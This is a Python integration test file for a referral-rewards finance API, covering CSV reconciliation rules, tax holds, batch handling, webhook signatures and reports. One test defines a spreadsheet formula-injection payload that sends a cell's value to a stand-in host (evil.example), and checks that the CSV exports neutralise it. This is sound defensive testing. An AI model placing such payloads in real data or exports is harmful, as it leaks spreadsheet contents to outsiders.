"""Finance over real HTTP (and the CLI), against hand-computed numbers: docs/finance.md's
reconciliation CSV rules (duplicates, BOM, CRLF, quoted commas, decimal amounts, blank
trailing lines, a wrong header), the US $600 tax hold (at exactly the threshold, one cent
under it, after review, released by the tax-form route or a participant event), a
batch holding its rewards (cancel while open, 409 once closed, a refund while closed
applied at fulfilment), the signed `batch.closed` webhook, the participants and
payouts reports, and the tax and KPI reports' null (an empty CSV cell) for a reward
without a currency.

tests/unit/core/finance_test.c covers the same rules at the engine level; these tests
go through the server's routes, parsers and serialisers."""
import base64
import csv
import datetime
import hashlib
import hmac
import io
import json
import os
import sys
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from apiutil import Env, RequestHelpers, SeededAPITest, audit_all, conversion, ndjson, participant, receiver  # noqa: E402

ALLOW = ("--webhook-allow-hosts", "127.0.0.1")


def cash_program(pid, amount, **extra):
    """A program paying the referrer `amount` cents in cash, batched for the fulfiller acme."""
    p = {"id": pid, "name": pid, "currency": "USD", "trigger": "conversion", "eligibility": True,
         "rewards": [{"to": "referrer", "type": "cash", "amount": amount}],
         "hold_days": 0, "fulfillment": {"cash": "manual", "fulfiller": "acme"}}
    p.update(extra)
    return p


def referral(rid, program, referrer, referred):
    return {"id": "evt_" + rid, "type": "referral", "occurred_at": "2026-10-01T09:00:00Z",
            "data": {"id": rid, "program": program, "referrer": referrer, "referred": referred}}


def refund(oid, amount=7500, reason="refund"):
    return {"id": "evt_rf_" + oid, "type": "refund", "data": {"conversion": oid, "amount": amount, "reason": reason}}


def load(env, *programs):
    for p in programs:
        env.cli("program", "load", env.write(p["id"] + ".json", json.dumps(p)), "--activate", check=True)


def post_events(test, srv, key, events):
    st, body, _ = srv.request("POST", "/v1/events", ndjson(events), key=key, ctype="application/x-ndjson")
    test.assertEqual((st, body["rejected"]), (200, 0), body)
    return body


def standard_signature(secret, msg_id, ts, body):
    key = base64.b64decode(secret[len("whsec_"):])
    return base64.b64encode(hmac.new(key, f"{msg_id}.{ts}.".encode() + body, hashlib.sha256).digest()).decode()


class FinanceCase(RequestHelpers, unittest.TestCase):
    """One database and server per class; requests default to the finance key."""

    @classmethod
    def start(cls, *programs, serve=()):
        cls.env = Env()
        load(cls.env, *programs)
        cls.admin = cls.env.key("admin")
        cls.finance = cls.env.key("finance")
        cls.srv = cls.env.serve("--no-worker", *serve)

    @classmethod
    def tearDownClass(cls):
        cls.env.close()

    def default_key(self):
        return self.finance

    def run_jobs(self):
        return self.ok("POST", "/v1/jobs/run", key=self.admin)

    def reward(self, rid):
        return self.ok("GET", f"/v1/rewards/{rid}", key=self.admin)

    def rewards_of(self, who):
        return self.ok("GET", f"/v1/rewards?participant={who}", key=self.admin)["data"]

    def each_earns(self, who, ref, friend, order, n=4, program="cash25"):
        """Participants who1..whoN each refer friend<i> (referral ref_<i>), who buys
        (order_<i>); after a worker pass, their reward ids in order."""
        evs = []
        for i in range(1, n + 1):
            evs += [participant(f"{who}{i}"), referral(f"{ref}_{i}", program, f"{who}{i}", f"{friend}{i}"),
                    conversion(f"{order}_{i}", f"{friend}{i}")]
        post_events(self, self.srv, self.admin, evs)
        self.run_jobs()
        return [self.only_reward(f"{who}{i}")["id"] for i in range(1, n + 1)]

    def only_reward(self, who, program=None):
        rs = [r for r in self.rewards_of(who) if program is None or r["program"] == program]
        self.assertEqual(len(rs), 1, rs)
        return rs[0]

    def state(self, rid):
        r = self.reward(rid)
        return r["status"], r["reason"]

    def reconcile(self, bid, text, status=200):
        st, r, _ = self.req("POST", f"/v1/batches/{bid}/reconcile", text.encode("utf-8"), ctype="text/csv")
        self.assertEqual(st, status, r)
        return r


# --- 1. reconciliation CSV edge cases ---------------------------------------------------

class ReconcileCSV(FinanceCase):
    """Four $25 cash rewards (r1..r4) in one fulfilled batch, reconciled against reports
    that exercise the CSV rules of docs/finance.md."""

    @classmethod
    def setUpClass(cls):
        cls.start(cash_program("cash25", 2500))
        t = cls()
        cls.ids = t.each_earns("r", "cref", "f", "cord")
        b = t.ok("POST", "/v1/batches", {"fulfiller": "acme"}, status=201)
        t.assertEqual((b["count"], b["totals"][0]["amount"]), (4, 10000), b)
        cls.bid = b["id"]
        t.assertEqual(t.ok("POST", f"/v1/batches/{cls.bid}/fulfill", {"reference": "CM-7"})["status"], "fulfilled")

    def test_1_wrong_header_is_400_and_changes_nothing(self):
        before = self.ok("GET", f"/v1/batches/{self.bid}")
        audit_before = len(audit_all(self.srv, self.admin))
        for bad in ("who,how_much\r\n%s,2500\r\n" % self.ids[0],              # neither key nor amount column
                    "reward_id,currency\r\n%s,USD\r\n" % self.ids[0],          # no amount column
                    "reward_id,amount,Amount\r\n%s,2500,2500\r\n" % self.ids[0],  # a column named twice
                    "\r\n\r\n",                                               # an empty report (blank lines)
                    "\ufeff"):                                                 # a BOM alone
            self.err("POST", f"/v1/batches/{self.bid}/reconcile", bad.encode(), 400, "invalid_request", "header",
                     ctype="text/csv")
        after = self.ok("GET", f"/v1/batches/{self.bid}")
        self.assertEqual(after["status"], "fulfilled", after)
        self.assertEqual(after["reconciliation"], before["reconciliation"])
        self.assertEqual(after["rewards_by_status"], {"fulfilled": 4}, after)
        self.assertEqual([self.state(r)[0] for r in self.ids], ["fulfilled"] * 4)
        self.assertEqual(len(audit_all(self.srv, self.admin)), audit_before)  # no run recorded

    def test_1b_empty_body_is_a_header_error(self):
        # docs/finance.md: "an empty report ... is 400 invalid_request with "param": "header"";
        # the CLI answers so for an empty file, HTTP for a body of blank lines.
        self.err("POST", f"/v1/batches/{self.bid}/reconcile", b"", 400, "invalid_request", "header", ctype="text/csv")
        self.assertEqual(self.ok("GET", f"/v1/batches/{self.bid}")["status"], "fulfilled")

    def test_2_duplicate_line(self):
        a, b, c, d = self.ids
        text = ("reward_id,amount,currency,reference\n"
                f"{a},2500,USD,CM-7\n{b},2500,USD,CM-7\n{c},2500,USD,CM-7\n{d},2500,USD,CM-7\n{b},2500,USD,CM-7\n")
        r = self.reconcile(self.bid, text)
        self.assertEqual(r["status"], "disputed", r)
        self.assertEqual({k: r[k] for k in ("lines_read", "matched", "duplicate", "missing", "unexpected",
                                            "amount_mismatch", "invalid", "not_paid")},
                         {"lines_read": 5, "matched": 4, "duplicate": 1, "missing": 0, "unexpected": 0,
                          "amount_mismatch": 0, "invalid": 0, "not_paid": 0}, r)
        dup = [ln for ln in r["lines"] if ln["result"] == "duplicate"]
        self.assertEqual([(ln["line"], ln["reward_id"]) for ln in dup], [(6, b)], r["lines"])
        self.assertEqual(self.ok("GET", f"/v1/batches/{self.bid}")["status"], "disputed")
        self.assertEqual([self.state(x)[0] for x in self.ids], ["fulfilled"] * 4)

    def test_3_decimal_amount_past_the_currency_digits_is_invalid(self):
        a, b, c, d = self.ids
        # the first record spans two physical lines (a quoted line break): `line` counts physical lines
        text = ("reward_id,amount,currency,reference\n"
                f'{a},25.00,USD,"CM-7,\nsecond line"\n{b},25.001,USD,CM-7\n{c},2500,usd,CM-7\n{d},25.000,USD,CM-7\n')
        r = self.reconcile(self.bid, text)
        self.assertEqual((r["status"], r["lines_read"], r["matched"], r["invalid"]), ("disputed", 4, 3, 1), r)
        self.assertEqual((r["amount_mismatch"], r["duplicate"], r["unexpected"]), (0, 0, 0), r)
        self.assertEqual(sorted((ln["line"], ln["reward_id"], ln["result"]) for ln in r["lines"]),
                         [(2, a, "matched"), (4, b, "invalid"), (5, c, "matched"), (6, d, "matched")], r["lines"])
        bad = [ln for ln in r["lines"] if ln["result"] == "invalid"][0]
        self.assertIsNone(bad["actual"], bad)
        self.assertIn("amount", bad["error"], bad)
        self.assertEqual([ln["reference"] for ln in r["lines"] if ln["line"] == 2], ["CM-7,\nsecond line"])
        self.assertEqual(self.ok("GET", f"/v1/batches/{self.bid}")["status"], "disputed")
        # the CLI reads the same report from a file the same way (exit status 1: disputed)
        path = self.env.write("memo-invalid.csv", text)
        cli = self.env.cli("batch", "reconcile", self.bid, path, "--json")
        self.assertEqual(cli.returncode, 1, cli.stderr)
        j = json.loads(cli.stdout)
        self.assertEqual((j["status"], j["lines_read"], j["matched"], j["invalid"]), ("disputed", 4, 3, 1), j)
        self.assertEqual([ln["line"] for ln in j["lines"] if ln["result"] == "invalid"], [4], j["lines"])

    def test_4_bom_crlf_quotes_decimals_and_blank_tail_reconcile(self):
        a, b, c, d = self.ids
        text = ("\ufeffReward ID,Amount,Currency,Memo\r\n"
                f'"{a}",25.00,USD,"CM-7, part 1"\r\n'
                f'{b}, 25.000 ,USD,"CM-7, ""part"" 2"\r\n'
                f'{c},"2500",USD,CM-7\r\n'
                f'{d},25.00,usd,"CM-7,\r\nline two"\r\n'
                "   \r\n,,,\r\n , , ,\r\n\r\n")
        r = self.reconcile(self.bid, text)
        self.assertEqual(r["status"], "reconciled", r)
        self.assertEqual({k: r[k] for k in ("lines_read", "matched", "duplicate", "missing", "unexpected",
                                            "amount_mismatch", "invalid", "not_paid")},
                         {"lines_read": 4, "matched": 4, "duplicate": 0, "missing": 0, "unexpected": 0,
                          "amount_mismatch": 0, "invalid": 0, "not_paid": 0}, r)
        self.assertEqual(r["columns"], {"reward_id": "Reward ID", "amount": "Amount", "currency": "Currency",
                                        "reference": "Memo", "status": None}, r)
        matched = {ln["reward_id"]: ln for ln in r["lines"] if ln["result"] == "matched"}
        self.assertEqual(set(matched), set(self.ids), r["lines"])
        self.assertEqual(matched[a]["reference"], "CM-7, part 1")
        self.assertEqual(matched[b]["reference"], 'CM-7, "part" 2')
        for x in self.ids:
            self.assertEqual(matched[x]["actual"], {"amount": 2500, "currency": "USD"}, matched[x])
        batch = self.ok("GET", f"/v1/batches/{self.bid}")
        self.assertEqual((batch["status"], batch["rewards_by_status"]), ("reconciled", {"reconciled": 4}), batch)
        self.assertEqual([self.state(x)[0] for x in self.ids], ["reconciled"] * 4)
        self.assertEqual(self.reward(a)["history"][-1]["to"], "reconciled")
        # a reconciled batch is final
        self.err("POST", f"/v1/batches/{self.bid}/reconcile", text.encode(), 409, "invalid_transition", ctype="text/csv")


# --- 2. the tax hold at exactly $600 ----------------------------------------------------

class TaxThreshold(FinanceCase):
    """US participants without a tax form; the US threshold is $600 (60000 USD) by default."""

    @classmethod
    def setUpClass(cls):
        cls.start(cash_program("c500", 50000), cash_program("c100", 10000), cash_program("c9999", 9999),
                  cash_program("rev100", 10000, review={"amount_at_least": 10000}))

    def earn(self, who, program, n):
        """`who` refers a new person in `program`, who buys: returns who's new reward."""
        post_events(self, self.srv, self.admin, [referral(f"{who}_ref{n}", program, who, f"{who}_fr{n}"),
                                                 conversion(f"{who}_ord{n}", f"{who}_fr{n}")])
        return self.only_reward(who, program)

    def test_default_threshold(self):
        s = self.ok("GET", "/v1/settings/tax")
        self.assertIn({"country": "US", "amount": 60000, "currency": "USD"}, s["thresholds"], s)
        self.assertEqual(sorted(s["reportable_types"]), ["cash", "gift_card"], s)

    def test_at_threshold_held_until_tax_form_route(self):
        post_events(self, self.srv, self.admin, [participant("ta")])
        first = self.earn("ta", "c500", 1)
        self.run_jobs()
        self.assertEqual(self.state(first["id"]), ("approved", "awaiting_batch"))
        second = self.earn("ta", "c100", 2)  # 500 + 100 = 600: at the threshold
        self.assertEqual((second["status"], second["reason"], second["amount"]), ("pending", "tax_form_required", 10000))
        self.run_jobs()  # the worker does not release it
        self.assertEqual(self.state(second["id"]), ("pending", "tax_form_required"))
        self.assertEqual(self.state(first["id"]), ("approved", "awaiting_batch"))
        p = self.ok("POST", "/v1/participants/ta/tax-form", {"form": "w9"}, key=self.admin)
        self.assertEqual(p["tax_form"], "w9", p)
        # recording the form releases it at once (no worker pass needed)
        self.assertEqual(self.state(second["id"]), ("approved", "awaiting_batch"))
        hist = [(h["from"], h["to"], h["reason"]) for h in self.reward(second["id"])["history"]]
        self.assertEqual(hist[-1][:2], ("pending", "approved"), hist)
        self.assertEqual(self.ok("GET", "/v1/participants/ta", key=self.admin)["tax_form"], "w9")

    def test_one_cent_under_threshold_not_held(self):
        post_events(self, self.srv, self.admin, [participant("tb")])
        self.earn("tb", "c500", 1)
        second = self.earn("tb", "c9999", 2)  # 500 + 99.99 = 599.99
        self.assertNotEqual(second["reason"], "tax_form_required", second)
        self.run_jobs()
        self.assertEqual(self.state(second["id"]), ("approved", "awaiting_batch"))

    def test_participant_event_with_tax_form_releases(self):
        post_events(self, self.srv, self.admin, [participant("tc")])
        self.earn("tc", "c500", 1)
        held = self.earn("tc", "c100", 2)
        self.assertEqual((held["status"], held["reason"]), ("pending", "tax_form_required"))
        ev = participant("tc")
        ev["id"] = "evt_p_tc_w9"
        ev["data"]["tax_form"] = "w9"
        post_events(self, self.srv, self.admin, [ev])
        self.assertEqual(self.state(held["id"]), ("approved", "awaiting_batch"))
        self.assertEqual(self.ok("GET", "/v1/participants/tc", key=self.admin)["tax_form"], "w9")
        # with the form on file, further reportable rewards are not held either
        more = self.earn("tc", "c9999", 3)
        self.run_jobs()
        self.assertEqual(self.state(more["id"]), ("approved", "awaiting_batch"))

    def test_approved_review_reward_is_held_at_threshold(self):
        post_events(self, self.srv, self.admin, [participant("td"), participant("te")])
        self.earn("td", "c500", 1)
        r = self.earn("td", "rev100", 2)
        self.assertEqual((r["status"], r["reason"]), ("review", "review:amount"), r)
        got = self.ok("POST", f"/v1/rewards/{r['id']}/approve", key=self.admin)
        self.assertEqual((got["status"], got["reason"]), ("pending", "tax_form_required"), got)
        self.run_jobs()
        self.assertEqual(self.state(r["id"]), ("pending", "tax_form_required"))
        self.ok("POST", "/v1/participants/td/tax-form", {"form": "w8ben"}, key=self.admin)
        self.assertEqual(self.state(r["id"]), ("approved", "awaiting_batch"))
        # the same $100 review reward alone is under the threshold: approved outright
        r2 = self.earn("te", "rev100", 1)
        self.assertEqual(r2["status"], "review", r2)
        got = self.ok("POST", f"/v1/rewards/{r2['id']}/approve", key=self.admin)
        self.assertNotEqual(got["reason"], "tax_form_required", got)
        self.run_jobs()
        self.assertEqual(self.state(r2["id"]), ("approved", "awaiting_batch"))


# --- 3 and 4. a batch holds its rewards; the signed batch.closed webhook ----------------

class BatchHold(FinanceCase):
    @classmethod
    def setUpClass(cls):
        cls.start(cash_program("cash25", 2500), serve=ALLOW)

    def test_batch_holds_rewards_and_signs_batch_closed(self):
        url, got = receiver(self, raw=True)
        ep = self.ok("POST", "/v1/webhook-endpoints", {"url": url + "/hooks", "events": ["batch.closed"]},
                     status=201, key=self.admin)
        secret = ep["secret"]
        self.assertTrue(secret.startswith("whsec_"), ep)

        r1, r2, r3, r4 = self.each_earns("b", "bref", "g", "bord")
        b = self.ok("POST", "/v1/batches", {"fulfiller": "acme", "currency": "USD"}, status=201)
        bid = b["id"]
        self.assertEqual((b["count"], sorted(b["rewards"])), (4, sorted([r1, r2, r3, r4])), b)
        self.assertEqual(b["totals"], [{"currency": "USD", "amount": 10000, "count": 4}], b)
        self.assertEqual(self.state(r1), ("approved", "in_batch"))

        # open: a cancelled reward leaves the batch
        c = self.ok("POST", f"/v1/rewards/{r1}/cancel", {"reason": "fraud"}, key=self.admin)
        self.assertEqual(c["status"], "cancelled", c)
        b = self.ok("GET", f"/v1/batches/{bid}")
        self.assertEqual((b["status"], b["count"], sorted(b["rewards"])), ("open", 3, sorted([r2, r3, r4])), b)
        self.assertEqual(b["totals"], [{"currency": "USD", "amount": 7500, "count": 3}], b)
        self.assertIsNone(self.reward(r1)["batch"])
        st, text, _ = self.req("GET", f"/v1/batches/{bid}/report.csv")
        self.assertEqual(st, 200, text)
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(rows[0], ["reward_id", "participant", "type", "amount", "currency", "reference"])
        self.assertEqual(sorted(r[:5] for r in rows[1:]),
                         sorted([[r2, "b2", "cash", "2500", "USD"], [r3, "b3", "cash", "2500", "USD"],
                                 [r4, "b4", "cash", "2500", "USD"]]), text)
        self.assertNotIn(r1, text)

        # closed: the batch.closed webhook, signed
        self.assertEqual(self.ok("POST", f"/v1/batches/{bid}/close")["status"], "closed")
        self.run_jobs()
        for _ in range(100):
            if got:
                break
            time.sleep(0.05)
        self.assertEqual(len(got), 1, got)
        h, raw = got[0]
        for name in ("webhook-id", "webhook-timestamp", "webhook-signature"):
            self.assertTrue(h.get(name), h)
        self.assertLess(abs(int(h["webhook-timestamp"]) - time.time()), 600, h)
        mac = standard_signature(secret, h["webhook-id"], h["webhook-timestamp"], raw)
        sigs = [s.split(",", 1)[1] for s in h["webhook-signature"].split() if s.startswith("v1,")]
        self.assertIn(mac, sigs, h)
        self.assertNotIn(standard_signature(secret, h["webhook-id"], h["webhook-timestamp"], raw + b" "), sigs)
        body = json.loads(raw)
        self.assertEqual(body["type"], "batch.closed", body)
        self.assertEqual((body["data"]["id"], body["data"]["status"], body["data"]["count"]), (bid, "closed", 3), body)
        deliveries = self.ok("GET", f"/v1/webhook-endpoints/{ep['id']}/deliveries", key=self.admin)["data"]
        self.assertEqual(len(deliveries), 1, deliveries)

        # closed: it is being paid, so no cancel; a refund is recorded but changes nothing yet
        self.err("POST", f"/v1/rewards/{r2}/cancel", {"reason": "late"}, 409, "invalid_transition", key=self.admin)
        self.assertEqual(self.state(r2), ("approved", "in_batch"))
        post_events(self, self.srv, self.admin, [refund("bord_3", reason="chargeback")])
        self.assertEqual(self.state(r3), ("approved", "in_batch"))
        b = self.ok("GET", f"/v1/batches/{bid}")
        self.assertEqual((b["count"], b["totals"][0]["amount"]), (3, 7500), b)

        # fulfilled: the held refund applies now
        f = self.ok("POST", f"/v1/batches/{bid}/fulfill", {"reference": "CM-2001"})
        self.assertEqual(f["status"], "fulfilled", f)
        self.assertEqual(self.state(r3)[0], "reversed")
        for x in (r2, r4):
            got_r = self.reward(x)
            self.assertEqual((got_r["status"], got_r["external_reference"]), ("fulfilled", "CM-2001"), got_r)
        self.assertEqual(self.state(r1)[0], "cancelled")
        b = self.ok("GET", f"/v1/batches/{bid}")
        self.assertEqual(b["rewards_by_status"], {"fulfilled": 2, "reversed": 1}, b)
        hist = [(x["from"], x["to"], x["reason"]) for x in self.reward(r3)["history"]]
        # the reversal records the refund's own reason, though it was applied later
        self.assertEqual(hist[-1], ("fulfilled", "reversed", "chargeback"), hist)
        self.assertEqual(hist[-2][:2], ("approved", "fulfilled"), hist)


class FormulaCells(FinanceCase):
    """Text in the CSV exports comes from outside: participant ids and names from the
    events, a fulfiller's reference. A cell a spreadsheet would run as a formula opens as
    text (a leading apostrophe); the JSON answers keep the values as they are."""

    EVIL_REF = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    @classmethod
    def setUpClass(cls):
        cls.start(cash_program("cash25", 2500))

    def test_formula_like_cells_are_written_as_text(self):
        who = "=SUM(1+2)"
        person = participant(who)
        person["data"]["email"] = "sum@example.com"  # an id is free text; an e-mail is an address
        post_events(self, self.srv, self.admin,
                    [person, referral("fref_1", "cash25", who, "fg1"), conversion("ford_1", "fg1")])
        self.run_jobs()
        rid = self.ok("GET", "/v1/rewards?participant=" + urllib.parse.quote(who), key=self.admin)["data"][0]["id"]
        fulfiller = self.env.key("fulfiller", "--fulfiller", "acme")
        bid = self.ok("POST", "/v1/batches", {"currency": "USD"}, status=201, key=fulfiller)["id"]
        self.ok("POST", f"/v1/batches/{bid}/fulfill", {"reference": self.EVIL_REF}, key=fulfiller)
        self.assertEqual(self.reward(rid)["external_reference"], self.EVIL_REF)

        st, text, _ = self.req("GET", f"/v1/batches/{bid}/report.csv")
        self.assertEqual(st, 200, text)
        rows = list(csv.reader(io.StringIO(text)))
        self.assertEqual(rows[1], [rid, "'" + who, "cash", "2500", "USD", "'" + self.EVIL_REF], text)
        st, text, _ = self.req("GET", "/v1/reports/participants?format=csv")
        self.assertEqual(st, 200, text)
        ids = [r["participant"] for r in csv.DictReader(io.StringIO(text))]
        self.assertIn("'" + who, ids, text)
        self.assertNotIn(who, ids, text)
        # the rest of the report (counts, currencies, amounts) is written as it was
        self.assertTrue(all(not c.startswith("'") for r in csv.reader(io.StringIO(text)) for c in r[1:]), text)


# --- 5. reports against hand-computed numbers -------------------------------------------

class Reports(SeededAPITest):
    """seed(): alice->carol and bob->dave in p1 (credits 1000 and 500 through the ledger).
    Added: alice->erin and bob->fred in cash25 ($25 cash, acme); bob's is cancelled;
    alice's is batched, fulfilled and reconciled; then dave->gina in cash25 stays approved."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        t = cls()
        load(cls.env, cash_program("cash25", 2500))
        cls.finance = cls.env.key("finance")
        cls.t0 = datetime.datetime.now(datetime.timezone.utc)
        post_events(t, cls.srv, cls.admin, [referral("ref_3", "cash25", "alice", "erin"), conversion("ord_3", "erin"),
                                            referral("ref_4", "cash25", "bob", "fred"), conversion("ord_4", "fred")])
        t.ok("POST", "/v1/jobs/run")
        bob_cash = [r for r in t.ok("GET", "/v1/rewards?participant=bob")["data"] if r["program"] == "cash25"]
        t.ok("POST", f"/v1/rewards/{bob_cash[0]['id']}/cancel", {"reason": "test"})
        b = t.ok("POST", "/v1/batches", {"fulfiller": "acme"}, status=201, key=cls.finance)
        t.assertEqual(b["count"], 1, b)
        alice_cash = b["rewards"][0]
        t.ok("POST", f"/v1/batches/{b['id']}/fulfill", {"reference": "CM-9"}, key=cls.finance)
        r = t.ok("POST", f"/v1/batches/{b['id']}/reconcile",
                 f"reward_id,amount\n{alice_cash},2500\n".encode(), key=cls.finance, ctype="text/csv")
        t.assertEqual(r["status"], "reconciled", r)
        post_events(t, cls.srv, cls.admin, [referral("ref_5", "cash25", "dave", "gina"), conversion("ord_5", "gina")])
        t.ok("POST", "/v1/jobs/run")

    EXPECTED = {  # participant: (referrals, successful, earned, fulfilled, per status, USD earned, USD fulfilled)
        "alice": (2, 2, 2, 2, {"fulfilled": 1, "reconciled": 1}, 3500, 3500),
        "bob": (2, 2, 1, 1, {"fulfilled": 1, "cancelled": 1}, 1000, 1000),
        "carol": (0, 0, 1, 1, {"fulfilled": 1}, 500, 500),
        "dave": (1, 1, 2, 1, {"fulfilled": 1, "approved": 1}, 3000, 500),
    }

    def test_participants_report_json_and_csv(self):
        rep = self.ok("GET", "/v1/reports/participants", key=self.finance)
        self.assertEqual(rep["object"], "report.participants")
        rows = {r["participant"]: r for r in rep["data"]}
        self.assertEqual(set(rows), {"alice", "bob", "carol", "dave", "erin", "fred", "gina"}, rows)
        for who, (refs, succ, earned, done, by_status, usd_e, usd_f) in self.EXPECTED.items():
            r = rows[who]
            self.assertEqual((r["referrals"], r["successful_referrals"], r["rewards_earned"], r["rewards_fulfilled"]),
                             (refs, succ, earned, done), r)
            self.assertEqual(r["rewards"], by_status, r)
            self.assertEqual(r["amounts"], [{"currency": "USD", "earned": usd_e, "fulfilled": usd_f}], r)
        for who in ("erin", "fred", "gina"):
            self.assertEqual((rows[who]["referrals"], rows[who]["rewards_earned"], rows[who]["amounts"]), (0, 0, []))

        st, text, h = self.req("GET", "/v1/reports/participants?format=csv", key=self.finance)
        self.assertEqual(st, 200, text)
        self.assertTrue(h["content-type"].startswith("text/csv"), h)
        self.assertIn("\r\n", text)
        lines = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(list(lines[0].keys()), ["participant", "referrals", "successful_referrals", "rewards_earned",
                                                 "rewards_fulfilled", "currency", "earned", "fulfilled"])
        self.assertEqual(len(lines), 7, text)  # one per participant and currency (none: one line, empty currency)
        from_json = []
        for r in rep["data"]:
            base = [r["participant"], str(r["referrals"]), str(r["successful_referrals"]), str(r["rewards_earned"]),
                    str(r["rewards_fulfilled"])]
            for m in r["amounts"] or [{"currency": "", "earned": "", "fulfilled": ""}]:
                from_json.append(base + [m["currency"], str(m["earned"]), str(m["fulfilled"])])
        self.assertEqual([list(x.values()) for x in lines], from_json)
        self.assertEqual(lines[0]["participant"], "alice")
        self.assertEqual((lines[0]["earned"], lines[0]["fulfilled"]), ("3500", "3500"))
        # the CLI's report is the same one
        cli = self.env.cli_json("report", "participants")
        self.assertEqual(cli["data"], rep["data"])

    def test_payouts_report(self):
        day = datetime.timedelta(days=1)
        frm = (self.t0 - day).strftime("%Y-%m-%dT%H:%M:%SZ")
        to = (self.t0 + day).strftime("%Y-%m-%dT%H:%M:%SZ")
        rep = self.ok("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month", key=self.finance)
        self.assertEqual((rep["object"], rep["group"], rep["reporting_currency"]), ("report.payouts", "month", "USD"))
        # earned: 4 ledger credits (1000+500+1000+500) + alice's and dave's cash (2500+2500); bob's
        # cancelled cash does not count. Paid: the 4 credits + alice's cash (reconciled).
        self.assertEqual(rep["totals"], [{"currency": "USD", "expected_amount": 8000, "actual_amount": 5500,
                                          "reconciled_amount": 2500}], rep)
        rows = rep["data"]
        self.assertTrue(rows and all(r["currency"] == "USD" for r in rows), rows)
        sums = {k: sum(r[k] for r in rows) for k in ("expected_count", "expected_amount", "actual_count",
                                                     "actual_amount", "reconciled_count", "reconciled_amount",
                                                     "difference")}
        self.assertEqual(sums, {"expected_count": 6, "expected_amount": 8000, "actual_count": 5, "actual_amount": 5500,
                                "reconciled_count": 1, "reconciled_amount": 2500, "difference": 2500})
        self.assertEqual(rep["missing_rates"], [])
        # in the reporting currency itself each row converts to its own amounts
        self.assertEqual([(r["reporting_currency"], r["converted_expected_amount"], r["converted_actual_amount"],
                           r["converted_reconciled_amount"]) for r in rows],
                         [("USD", r["expected_amount"], r["actual_amount"], r["reconciled_amount"]) for r in rows])
        # CSV: the same rows
        st, text, _ = self.req("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month&format=csv",
                               key=self.finance)
        self.assertEqual(st, 200, text)
        got = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual([(g["period"], g["expected_amount"], g["actual_amount"], g["difference"]) for g in got],
                         [(r["period"], str(r["expected_amount"]), str(r["actual_amount"]), str(r["difference"]))
                          for r in rows])
        # another reporting currency: 1 EUR = 0.5 USD, so each USD amount is twice as many EUR;
        # the rows' converted amounts (in the CSV too) add up to the period's `converted`
        self.ok("PUT", "/v1/fx-rates", {"reporting": "USD", "rates": {"EUR": "0.5"}}, key=self.finance)
        eur = self.ok("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month&reporting=EUR", key=self.finance)
        self.assertEqual([(r["reporting_currency"], r["converted_expected_amount"], r["converted_actual_amount"])
                          for r in eur["data"]],
                         [("EUR", 2 * r["expected_amount"], 2 * r["actual_amount"]) for r in rows])
        self.assertEqual([c["expected_amount"] for c in eur["converted"]],
                         [sum(r["converted_expected_amount"] for r in eur["data"] if r["period"] == c["period"])
                          for c in eur["converted"]])
        st, text, _ = self.req("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month&reporting=EUR&format=csv",
                               key=self.finance)
        got = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual([(g["reporting_currency"], g["converted_expected_amount"], g["converted_reconciled_amount"])
                          for g in got],
                         [("EUR", str(r["converted_expected_amount"]), str(r["converted_reconciled_amount"]))
                          for r in eur["data"]])
        # no rate: the converted columns are empty and the currency is listed as missing
        jpy = self.ok("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month&reporting=JPY", key=self.finance)
        self.assertEqual(jpy["missing_rates"], ["USD"])
        self.assertTrue(all(r["converted_expected_amount"] is None for r in jpy["data"]), jpy["data"])
        st, text, _ = self.req("GET", f"/v1/reports/payouts?from={frm}&to={to}&group=month&reporting=JPY&format=csv",
                               key=self.finance)
        self.assertEqual({g["converted_actual_amount"] for g in csv.DictReader(io.StringIO(text))}, {""})
        # a window before anything happened is empty
        early = self.ok("GET", "/v1/reports/payouts?from=2020-01-01T00:00:00Z&to=2020-02-01T00:00:00Z",
                        key=self.finance)
        self.assertEqual((early["data"], early["totals"]), ([], []))


# --- 6. a missing currency is null in every report --------------------------------------

class MissingCurrency(FinanceCase):
    """A coupon with a face value (amount 500, no currency), made reportable and paid out
    through the code pool: the tax and KPI reports write null for its currency, and an
    empty cell in the CSV, as the aging and credit-status reports do."""

    @classmethod
    def setUpClass(cls):
        cls.start({"id": "cpn", "name": "Coupons", "currency": "USD", "trigger": "conversion", "eligibility": True,
                   "rewards": [{"to": "referrer", "type": "coupon", "pool": "spring", "amount": 500}],
                   "hold_days": 0})
        t = cls()
        t.ok("POST", "/v1/code-pools/spring/codes", {"codes": ["C1"]}, key=cls.admin)
        t.ok("PUT", "/v1/settings/tax/reportable-types", {"types": ["cash", "gift_card", "coupon"]})
        post_events(t, cls.srv, cls.admin, [participant("amy"), referral("cref_1", "cpn", "amy", "zed"),
                                            conversion("cord_1", "zed")])
        t.run_jobs()
        r = t.only_reward("amy")
        t.assertEqual((r["status"], r["amount"], r["currency"]), ("fulfilled", 500, None), r)
        cls.year = int(r["fulfilled_at"][:4])

    def csv_rows(self, path):
        st, text, _ = self.req("GET", path)
        self.assertEqual(st, 200, text)
        return list(csv.DictReader(io.StringIO(text)))

    def test_tax_rows(self):
        rep = self.ok("GET", f"/v1/reports/tax?year={self.year}")
        self.assertEqual([(r["participant"], r["currency"], r["amount"]) for r in rep["data"]],
                         [("amy", None, 500)], rep)
        got = self.csv_rows(f"/v1/reports/tax?year={self.year}&format=csv")
        self.assertEqual([(g["participant"], g["currency"], g["amount"]) for g in got], [("amy", "", "500")], got)

    def test_kpi_rows(self):
        rep = self.ok("GET", "/v1/reports/kpis")
        self.assertEqual([(c["connector"], c["currency"], c["payouts"], c["cost_per_payout"])
                          for c in rep["cost_per_payout"]], [("code_pool", None, 1, None)], rep)
        cost = [r for r in rep["data"] if r["metric"] == "cost_per_payout"]
        self.assertEqual(cost, [{"metric": "cost_per_payout", "connector": "code_pool", "currency": None,
                                 "value": None}], rep)
        got = self.csv_rows("/v1/reports/kpis?format=csv")
